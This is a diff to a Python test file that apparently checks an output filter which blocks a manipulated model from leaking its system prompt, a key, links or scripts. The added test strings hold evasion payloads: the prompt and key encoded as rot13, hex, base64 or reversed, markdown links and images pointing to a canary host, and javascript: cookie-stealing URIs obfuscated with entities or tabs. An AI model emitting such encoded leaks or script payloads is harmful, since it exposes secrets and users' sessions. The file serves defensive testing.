@@ -1,7 +1,10 @@
 """A model that was talked into telling what it must not: none of it leaves, whole or streamed."""
 
+import base64
+import codecs
 from collections.abc import Callable
 from typing import Any
+from urllib.parse import quote
 
 import orjson
 import pytest
@@ -25,6 +28,29 @@ TOLD = {
     "a script": f"<script src=//{CANARY}/x.js></script>",
     "an address that nobody gave": f"Write to bob@{CANARY}.",
     "signs that nobody sees": "2\u200b moons \u202eor so",
+    "the writer's prompt backwards": WRITER.text["en"][::-1],
+    "the writer's prompt in rot13": codecs.encode(WRITER.text["en"], "rot13"),
+    "the writer's prompt in hexadecimal": WRITER.text["en"].encode().hex(" "),
+    "the writer's prompt in lines of base64": base64.encodebytes(
+        WRITER.text["es"].encode()
+    ).decode(),
+    "the writer's prompt in an address": quote(WRITER.text["en"]),
+    "our key backwards": KEY[::-1],
+    "our key in rot13": codecs.encode(KEY, "rot13"),
+    "a link by reference": f"[2][a]\n\n[a]: https://{CANARY}/?q=mars",
+    "an image by reference": f"![2][a]\n\n[a]: //{CANARY}/?q=mars",
+    "an address between brackets": f"<https://{CANARY}/?q=mars>",
+    "an address without slashes": f"[2](https:{CANARY}/?q=mars)",
+    "an address with slashes turned": f"[2](https:\\\\{CANARY}\\mars)",
+    "an address of the page's own scheme": f"[2](//{CANARY}/mars)",
+    "an address in entities": f"[2](https&#58;&#47;&#47;{CANARY}/mars)",
+    "a script in entities": "[2](&#106;avascript:alert(document.cookie))",
+    "a script with a tab in it": "[2](java\tscript:alert(document.cookie))",
+    "a document in an address": "[2](data:text/html;base64,PHNjcmlwdD4=)",
+    "colours of a terminal": "\x1b[31m2 moons\x1b[0m",
+    "a title of a terminal": "\x1b]0;2 moons\x07",
+    "a card that nobody gave": "Pay with 4111 1111 1111 1111.",
+    "an account that nobody gave": "Pay to ES91 2100 0418 4502 0005 1332.",
 }
 
 
